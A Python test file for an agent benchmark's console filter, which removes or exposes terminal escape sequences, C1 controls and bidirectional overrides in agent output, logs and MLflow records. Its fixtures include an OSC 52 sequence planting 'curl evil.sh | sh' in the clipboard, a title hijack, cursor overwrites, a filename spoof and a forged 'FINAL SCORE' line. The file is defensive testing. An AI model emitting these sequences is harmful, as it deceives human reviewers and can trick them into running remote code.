"""The one console filter (bench.markup.shown): no escape sequence, C1 control or bidirectional override the agent
prints, or puts in a checkpoint's name, reaches the console, agent.log as uploaded for a person, the report or an
MLflow run's name and tags (issue 38, item 3)."""

from __future__ import annotations

import io
import re
import subprocess
import sys

import pytest

from bench.agents.stream import AgentStream
from bench.gateway.transcript import redacted_copy
from bench.markup import md_code, md_text, one_line, shown
from bench.progress import StatusLine

# each family a terminal acts on, as an agent would print it
OSC0 = "\x1b]0;pwned title\x07"  # the window title
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\"  # the clipboard ("curl evil.sh | sh"), ST-terminated
SGR = "\x1b[1;31mRED\x1b[0m"
CURSOR = "\x1b[2A\x1b[10C\x1b[K"  # two lines up, ten right, erase: overwrites what the console showed
C1_CSI = "\x9b31m"  # the 8-bit CSI (U+009B as UTF-8 is read as CSI by some terminals)
RLO = "model\u202egp.pt"  # shows as "modeltp.pg"
NAME = "best\nFINAL SCORE 0.001\x1b[8m.pt"  # a checkpoint name with a newline and a hidden-text escape
FAMILIES = [OSC0, OSC52, SGR, CURSOR, C1_CSI, RLO, NAME]
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _raw(text: str) -> list[str]:
    """What a terminal would act on in ``text``: ESC, C1 controls, bidirectional controls, carriage returns."""
    return re.findall(f"[\\x1b\\x80-\\x9f\\r{BIDI}]", text)


@pytest.mark.parametrize("text", FAMILIES)
def test_each_family_is_removed_or_made_visible(text):
    out = shown(text)
    assert not _raw(out), repr(out)
    assert "\n" not in out  # one line: a newline in a name cannot forge a second line


def test_what_is_text_stays_and_what_is_hidden_shows():
    assert shown(SGR) == "RED"  # colours removed, the words kept
    assert shown(OSC0 + "ok") == "ok"  # the title sequence gone, payload and all
    assert "Y3VybC" not in shown(OSC52)
    assert shown(RLO) == "model\\u202egp.pt"  # the override is visible, the name reads as written
    assert shown(NAME) == "best\\nFINAL SCORE 0.001.pt"
    assert shown("tab\tkept, 0.378") == "tab\tkept, 0.378"
    assert shown("a\x00b\x07c\x7fd") == "a\\x00b\\x07c\\x7fd"
    assert shown("line one\nline two\r\n", lines=True) == "line one\nline two\n"
    assert shown("bar 50%\rbar 100%", lines=True) == "bar 50%\\rbar 100%"  # a carriage return cannot overwrite


@pytest.mark.parametrize("text", FAMILIES)
def test_reasons_and_markdown_carry_none_of_them(text):
    for out in (one_line(text), md_text(text), md_code(text)):
        assert not _raw(out) and "\n" not in out, repr(out)


def _agent(tmp_path, printed: str) -> subprocess.Popen:
    script = tmp_path / "agent.py"
    script.write_text(f"import sys\nsys.stdout.buffer.write({printed.encode()!r})\n")
    return subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE)


def test_a_plain_agents_output_reaches_the_console_filtered_and_the_log_unchanged(tmp_path, capsys):
    printed = "".join(f"{f}\n" for f in FAMILIES if "\n" not in f) + "done\n"
    proc = _agent(tmp_path, printed)
    status = StatusLine("t6", stream=io.StringIO(), enabled=True)
    stream = AgentStream(proc, tmp_path / "agent.log", tmp_path / "events.jsonl", status, console=True).start()
    proc.wait()
    stream.join()
    console = capsys.readouterr().out
    assert "done" in console and "RED" in console and "\\u202e" in console
    assert not _raw(console), repr(console)
    assert (tmp_path / "agent.log").read_bytes() == printed.encode()  # the evidence keeps the bytes as printed
    (tmp_path / "up").mkdir()
    shown_copy = redacted_copy(tmp_path / "agent.log", tmp_path / "up", shown=True)
    assert not _raw(shown_copy.read_text()), "agent.log as uploaded for the UI carries a raw escape"
    assert shown_copy.read_text().count("\n") == printed.count("\n")  # its lines are the log's lines


def test_a_json_agents_tool_calls_and_messages_reach_the_console_filtered(tmp_path, capsys):
    import json

    events = [
        {"type": "system", "subtype": "init", "model": "m", "session_id": "s"},
        {
            "type": "assistant",
            "message": {
                "content": [
                    {"type": "text", "text": f"saving {OSC0}{SGR}{RLO}"},
                    {
                        "type": "tool_use",
                        "id": "t1",
                        "name": "Bash",
                        "input": {"command": f"cp x 'checkpoints/{NAME}'"},
                    },
                ]
            },
        },
    ]
    printed = "".join(json.dumps(e) + "\n" for e in events) + f"warning: {OSC52}{CURSOR}{C1_CSI}\n"
    proc = _agent(tmp_path, printed)
    status = StatusLine("t6", stream=io.StringIO(), enabled=True)
    stream = AgentStream(
        proc, tmp_path / "agent.log", tmp_path / "events.jsonl", status, console=True, parser_name="claude-code"
    ).start()
    proc.wait()
    stream.join()
    console = capsys.readouterr().out
    assert "FINAL SCORE" in console, console  # the tool call was shown...
    assert not _raw(console), repr(console)  # ...without a raw escape
    assert not any(line.startswith("FINAL SCORE") for line in console.splitlines())  # ...and on its own line


def test_mlflow_names_and_tags_carry_no_raw_escape():
    from bench.tracking import schema, store
    from bench.tracking.writer import MlflowWriter

    w = MlflowWriter("console-filter")
    for name in FAMILIES:
        run = w.create_run(f"eval {name}", {schema.SCRIPT: f"train{OSC0}.py", schema.CANDIDATE: RLO})
        w.set_tags(run, {schema.REASON: f"{name}\nsecond line"})
        w.log_params(run, {"opt": SGR + C1_CSI})
        got = store.client().get_run(run)
        assert not _raw(got.info.run_name) and "\n" not in got.info.run_name, repr(got.info.run_name)
        for value in (*got.data.tags.values(), *got.data.params.values()):
            assert not _raw(value), repr(value)
        assert got.data.tags[schema.REASON].endswith("\nsecond line")  # a tag's own lines are kept


def test_a_trace_of_the_agents_conversation_carries_no_raw_escape():
    """The conversation's trace (bench/pipeline/traces.py): the agent's messages are what the trace view shows."""
    from bench.pipeline.traces import SpanSpec, TraceSpec
    from bench.tracking.writer import _redacted_spec

    said = f"{OSC0}{SGR}{RLO}\n{OSC52}{CURSOR}{C1_CSI}"
    span = SpanSpec(f"tool {NAME}", "TOOL", 1, 2, {"command": said}, {"out": [said]}, {"k": said}, error=said)
    spec = TraceSpec(f"run {RLO}", 0, 3, {"prompt": said}, {"final": said}, {"tag": said}, [span])
    cleaned = _redacted_spec(spec)

    def strings(o):  # every string as it is (json.dumps would escape an ESC itself)
        if isinstance(o, str):
            yield o
        elif isinstance(o, dict):
            for k, v in o.items():
                yield from strings(k)
                yield from strings(v)
        elif isinstance(o, list | tuple):
            for x in o:
                yield from strings(x)

    text = "".join(strings([cleaned.name, cleaned.inputs, cleaned.outputs, cleaned.tags]))
    text += "".join(strings([vars(s) for s in cleaned.spans]))
    assert text and not _raw(text), repr(text)
    assert "RED" in cleaned.inputs["prompt"] and "\n" in cleaned.inputs["prompt"]  # words and lines kept
